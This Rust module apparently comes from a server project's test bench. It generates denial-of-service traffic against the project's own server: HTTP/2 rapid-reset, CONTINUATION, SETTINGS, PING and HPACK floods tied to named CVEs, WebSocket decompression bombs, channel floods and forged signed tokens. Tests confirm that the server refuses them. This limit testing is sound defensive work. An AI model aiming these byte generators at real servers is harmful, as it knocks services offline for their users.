//! What attackers say: for each attack the bytes of one connection, as many as anybody takes.

use crate::asking;
use crate::streams::{self, END_HEADERS, END_STREAM, INITIAL_WINDOW_SIZE, STREAMS, Streams, WEBSOCKET, frame, kind};
use crate::tokens::{self, Signing};
use clap::ValueEnum;
use pushlab_http2::frame::Code;
use pushlab_wire::deflate::Deflater;
use pushlab_wire::websocket::{Opcode, encode, encode_compressed, handshake};

/// An attack: on HTTP/2 (RFC 9113, section 10.5), on compressed WebSockets, or by asking for what anybody may ask for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// Streams that the client resets as soon as they are open (CVE-2023-44487).
    RapidReset,
    /// Streams that the server has to reset (CVE-2025-8671).
    ForcedReset,
    /// SETTINGS that have to be acknowledged (CVE-2019-9515).
    Settings,
    /// PING that has to be answered (CVE-2019-9512).
    Ping,
    /// Heads without end (VU#421644).
    Continuation,
    /// Small field blocks that stand for large heads.
    Hpack,
    /// Answers taken a byte at a time (CVE-2019-9517, CVE-2019-9511).
    TinyWindows,
    /// DATA without any (CVE-2019-9518).
    EmptyData,
    /// Windows opened by a byte.
    WindowUpdate,
    /// Requests whose answers are not read.
    Unread,
    /// Messages that are too large when they are decompressed.
    Bombs,
    /// Messages that are just not too large when they are decompressed, from two hundred times fewer bytes.
    SmallBombs,
    /// Subscriptions over WebSockets, each to a new channel beside many others, and given up at once.
    Subscriptions,
    /// Polls of new channels, as many as a connection may have.
    Polls,
    /// Publications over WebSockets, each to a new channel.
    Publications,
    /// WebSockets that are refused, because a page of another site asks for them.
    Upgrades,
    /// Log-ins to the auction house, each in another name, from several addresses.
    LogIns,
    /// Tokens that RSA has not signed, for WebSockets and on them.
    TokensRs256,
    /// The same with ECDSA.
    TokensEs256,
    /// The same with Ed25519.
    TokensEddsa,
    /// Somebody who enters and leaves a channel of which it is told who is there.
    PresenceOne,
    /// Somebody who enters and leaves such channels, each time a new one beside many others.
    PresenceRooms,
    /// People who enter such a channel and leave it, each once.
    PresenceMany,
    /// Questions who is in such a channel, in which there are many.
    PresenceAsked,
}

/// What an attack's connections speak.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Speech {
    Http2,
    WebSocket,
    /// HTTP/1.1.
    Requests,
}

/// Frames that are made at once.
const AT_ONCE: u32 = 200;
/// Bytes that each stream is allowed before it is asked for another answer: about the size of one.
const ANSWER_BYTES: u32 = 5_000;
/// What a bomb becomes, bytes.
const BOMB_BYTES: usize = 10 << 20;
/// The same for a small one: the default of `--max-message-bytes`.
const SMALL_BOMB_BYTES: usize = 64 * 1024;
/// A channel of which it is told who is there.
const ROOM: &str = "room:1";
/// Browsers offer this.
const OFFER: &str = "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n";

/// What one connection says.
pub struct Script {
    attack: Attack,
    speech: Speech,
    streams: Streams,
    /// Times that it was asked to go on.
    round: u32,
    /// A frame with a compressed message.
    bomb: Vec<u8>,
}

impl Attack {
    /// Whether the attacker reads what it is told.
    pub fn reads(self) -> bool {
        self != Self::Unread
    }

    /// Whether it is one on the auction house.
    pub fn is_on_auction(self) -> bool {
        self == Self::LogIns
    }

    /// Whether it is made from several addresses, since each has an allowance.
    pub fn is_from_many(self) -> bool {
        self == Self::LogIns
    }

    /// Whether what it says is kept, up to a limit.
    pub fn is_kept(self) -> bool {
        self == Self::Publications
    }

    /// Whether the server has an access file.
    pub fn is_on_access(self) -> bool {
        self.signing().is_some()
            || matches!(self, Self::PresenceOne | Self::PresenceRooms | Self::PresenceMany | Self::PresenceAsked)
    }

    fn signing(self) -> Option<Signing> {
        match self {
            Self::TokensRs256 => Some(Signing::Rs256),
            Self::TokensEs256 => Some(Signing::Es256),
            Self::TokensEddsa => Some(Signing::EdDsa),
            _ => None,
        }
    }

    /// What its `nth` connection speaks.
    fn speech(self, nth: usize) -> Speech {
        match self {
            Self::Bombs | Self::SmallBombs | Self::Subscriptions | Self::Publications => Speech::WebSocket,
            Self::PresenceOne | Self::PresenceRooms => Speech::WebSocket,
            Self::Polls | Self::Upgrades | Self::LogIns => Speech::Requests,
            // Half of them ask while the others are there, or show their tokens on WebSockets.
            Self::PresenceAsked if nth.is_multiple_of(2) => Speech::Requests,
            _ if self.signing().is_some() && nth.is_multiple_of(2) => Speech::Requests,
            _ if self.signing().is_some() => Speech::WebSocket,
            _ => Speech::Http2,
        }
    }
}

impl Script {
    /// Of the `nth` of the connections that attack like this.
    pub fn new(attack: Attack, nth: usize) -> Self {
        let size = if attack == Attack::Bombs { BOMB_BYTES } else { SMALL_BOMB_BYTES };
        let mut bomb = Vec::new();
        if matches!(attack, Attack::Bombs | Attack::SmallBombs) {
            // JSON may have any space around it.
            let ping = "[\"ping\",1]";
            let text = ping.to_owned() + &" ".repeat(size - ping.len());
            let text = Deflater::default().deflate(text.as_bytes()).expect("spaces get smaller");
            encode_compressed(&mut bomb, Opcode::Text, &text, Some([1, 2, 3, 4]));
        }
        Self { attack, speech: attack.speech(nth), streams: Streams::new(), round: 0, bomb }
    }

    /// Begins a new connection.
    pub fn begin(&mut self, out: &mut Vec<u8>) {
        (self.streams, self.round) = (Streams::new(), 0);
        match self.speech {
            Speech::Http2 => self.begin_http2(out),
            Speech::WebSocket if matches!(self.attack, Attack::PresenceOne | Attack::PresenceRooms) => {
                asking::upgrade_with(out, &tokens::of("ada"));
            }
            Speech::WebSocket => handshake::encode_request_with(out, "bench", "/ws", *b"0123456789abcdef", OFFER),
            Speech::Requests => {}
        }
        match self.attack {
            Attack::Subscriptions => asking::first_subscriptions("n").iter().for_each(|text| message(out, text)),
            Attack::PresenceRooms => asking::first_subscriptions("room:").iter().for_each(|text| message(out, text)),
            _ => {}
        }
    }

    fn begin_http2(&mut self, out: &mut Vec<u8>) {
        streams::begin(out, if self.attack == Attack::TinyWindows { 1 } else { 1 << 20 });
        match self.attack {
            Attack::EmptyData => drop(self.streams.open(out, 0, "POST", "/publish?channel=quiet", &[])),
            Attack::WindowUpdate => drop(self.streams.ask(out, "GET", "/stream?channel=quiet")),
            Attack::PresenceAsked => {
                for _ in 0..STREAMS {
                    self.enter(out);
                }
            }
            _ => {}
        }
    }

    /// Says more.
    pub fn go_on(&mut self, out: &mut Vec<u8>) {
        match self.attack {
            Attack::TinyWindows => self.open_by_a_byte(out),
            Attack::Hpack => self.say_large_head(out),
            Attack::Bombs => out.extend_from_slice(&self.bomb),
            _ => (0..AT_ONCE).for_each(|n| self.say(n, out)),
        }
        self.round += 1;
    }

    fn say(&mut self, n: u32, out: &mut Vec<u8>) {
        let first = self.round == 0 && n == 0;
        match self.attack {
            Attack::RapidReset => {
                let stream = self.streams.ask(out, "GET", "/poll?channel=quiet&wait=60");
                frame(out, kind::RST_STREAM, 0, stream, &Code::Cancel.number().to_be_bytes());
            }
            Attack::ForcedReset => {
                let stream = self.streams.ask(out, "GET", "/poll?channel=quiet&wait=60");
                frame(out, kind::WINDOW_UPDATE, 0, stream, &[0; 4]);
            }
            Attack::Settings => {
                frame(out, kind::SETTINGS, 0, 0, &streams::setting(INITIAL_WINDOW_SIZE, n));
            }
            Attack::Ping => frame(out, kind::PING, 0, 0, &u64::from(n).to_be_bytes()),
            Attack::Continuation if first => frame(out, kind::HEADERS, END_STREAM, 1, &[0; 3_500]),
            Attack::Continuation => frame(out, kind::CONTINUATION, 0, 1, &[0; 3_500]),
            Attack::EmptyData => frame(out, kind::DATA, 0, 1, b""),
            Attack::WindowUpdate => frame(out, kind::WINDOW_UPDATE, 0, n % 2, &1_u32.to_be_bytes()),
            Attack::Unread => drop(self.streams.ask(out, "HEAD", "/healthz")),
            Attack::SmallBombs => out.extend_from_slice(&self.bomb),
            Attack::Subscriptions => asking::subscription("n").iter().for_each(|text| message(out, text)),
            Attack::PresenceRooms => asking::subscription("room:").iter().for_each(|text| message(out, text)),
            Attack::PresenceOne => asking::subscription_to(ROOM).iter().for_each(|text| message(out, text)),
            Attack::PresenceMany => {
                let stream = self.enter(out);
                frame(out, kind::DATA, END_STREAM, stream, b"");
            }
            Attack::PresenceAsked if self.speech == Speech::Requests => asking::who_is_in(out, ROOM),
            // Those who are there stay.
            Attack::PresenceAsked => {}
            Attack::TokensRs256 | Attack::TokensEs256 | Attack::TokensEddsa => self.show_token(out),
            Attack::Publications => message(out, &asking::publication()),
            Attack::Polls => asking::poll(out),
            Attack::Upgrades => asking::upgrade(out),
            Attack::LogIns => asking::log_in(out),
            Attack::TinyWindows | Attack::Hpack | Attack::Bombs => {}
        }
    }

    /// Shows a wrong token: for a WebSocket, or on one that needs none.
    fn show_token(&self, out: &mut Vec<u8>) {
        let token = tokens::wrong(self.attack.signing().expect("it is an attack by tokens"));
        if self.speech == Speech::WebSocket {
            message(out, &format!("[\"auth\",\"{token}\"]"));
        } else {
            asking::upgrade_with(out, &token);
        }
    }

    /// Somebody new enters a channel over a WebSocket, which is the next stream, whose number it gives.
    fn enter(&mut self, out: &mut Vec<u8>) -> u32 {
        let path = format!("/ws?channel={ROOM}");
        let token = format!("Bearer {}", tokens::of(&asking::new_name("n")));
        let more = [&WEBSOCKET[..], &[("authorization", &token)]].concat();
        self.streams.open(out, 0, "CONNECT", &path, &more)
    }

    /// Asks for pages on all streams, and takes a byte of each at a time.
    fn open_by_a_byte(&mut self, out: &mut Vec<u8>) {
        if self.round.is_multiple_of(ANSWER_BYTES) {
            for _ in 0..STREAMS {
                self.streams.ask(out, "GET", "/metrics");
            }
        }
        let first = self.streams.next - 2 * STREAMS;
        for n in 0..STREAMS {
            frame(out, kind::WINDOW_UPDATE, 0, first + 2 * n, &1_u32.to_be_bytes());
        }
    }

    /// The first head brings a field of four kilobytes, the others name it by a byte, thousands of times.
    fn say_large_head(&mut self, out: &mut Vec<u8>) {
        let mut block = self.streams.block("GET", "/healthz", &[]);
        if self.round == 0 {
            // With incremental indexing: a name of one byte, a value of 3,900 in HPACK's own way of writing numbers.
            block.extend([0x40, 1, b'x', 0x7f, 0x80 | (3_773 % 128) as u8, (3_773 / 128) as u8]);
            block.extend([b'x'; 3_900]);
        } else {
            block.extend([0x80 | 62; 12_000]);
        }
        frame(out, kind::HEADERS, END_HEADERS | END_STREAM, self.streams.next, &block);
        self.streams.next += 2;
    }
}

fn message(out: &mut Vec<u8>, text: &str) {
    encode(out, Opcode::Text, text.as_bytes(), Some([1, 2, 3, 4]));
}

#[cfg(test)]
mod tests {
    use super::*;
    use pushlab_access::LiveAccess;
    use pushlab_http2::connection::{Connection, Role};
    use pushlab_http2::limits::Limits;
    use pushlab_wire::deflate::InflateDecoder;
    use pushlab_wire::fields::FieldList;
    use pushlab_wire::websocket::{self, Config, Decoded, Decoder, Event};
    use std::time::Duration;

    /// What a server's end of HTTP/2 makes of an attack.
    fn end_of(attack: Attack) -> Option<Code> {
        let mut server = Connection::new(Role::Server, Limits::default());
        let mut script = Script::new(attack, 1);
        let mut bytes = Vec::new();
        script.begin(&mut bytes);
        (0..10).for_each(|_| script.go_on(&mut bytes));
        let (mut at, mut head) = (0, FieldList::default());
        while at < bytes.len() {
            match server.receive(&mut bytes[at..], Duration::ZERO, &mut head) {
                Ok((0, _)) => panic!("{attack:?} says half a frame"),
                Ok((used, _)) => at += used,
                Err(error) => return Some(error.code),
            }
        }
        None
    }

    #[test]
    fn attacks_meet_the_limit_that_they_are_for() {
        for &attack in Attack::value_variants().iter().filter(|attack| attack.speech(1) == Speech::Http2) {
            let is_endless =
                matches!(attack, Attack::Hpack | Attack::TinyWindows | Attack::WindowUpdate | Attack::PresenceAsked);
            // Streams that are not answered are refused at last.
            let expected = (!is_endless).then_some(Code::EnhanceYourCalm);
            assert_eq!(end_of(attack), expected, "{attack:?}");
        }
    }

    /// What a server makes of one who enters: it is the same for all.
    #[test]
    fn who_enters_is_let_in() {
        let mut script = Script::new(Attack::PresenceMany, 0);
        let mut bytes = Vec::new();
        script.begin(&mut bytes);
        script.enter(&mut bytes);
        let mut server = Connection::new(Role::Server, Limits::default());
        let (mut at, mut head) = (0, FieldList::default());
        while at < bytes.len() {
            at += server.receive(&mut bytes[at..], Duration::ZERO, &mut head).unwrap().0;
        }
        let token = std::str::from_utf8(head.get("authorization").unwrap()).unwrap().strip_prefix("Bearer ").unwrap();
        let access = LiveAccess::new(tokens::rules().unwrap());
        assert!(access.person(token, 0).unwrap().identity().is_some());
        assert!(access.rules().tells_presence(ROOM));
    }

    #[test]
    fn bombs_are_small_and_become_large() {
        for (attack, becomes) in [(Attack::Bombs, BOMB_BYTES), (Attack::SmallBombs, SMALL_BOMB_BYTES)] {
            let mut frame = Script::new(attack, 1).bomb;
            assert!(frame.len() < becomes / 150, "{} bytes", frame.len());
            let config = Config { takes_compressed: true, ..Config::new(websocket::Role::Server) };
            let mut decoder = Decoder::default();
            let decoded = decoder.decode(&mut frame, &config).unwrap();
            let Decoded::Frame { event: Some(Event::Compressed { payload, .. }), .. } = decoded else { panic!() };
            let mut inflater = InflateDecoder::default();
            assert_eq!(inflater.inflate(payload, becomes).unwrap().len(), becomes);
        }
    }
}
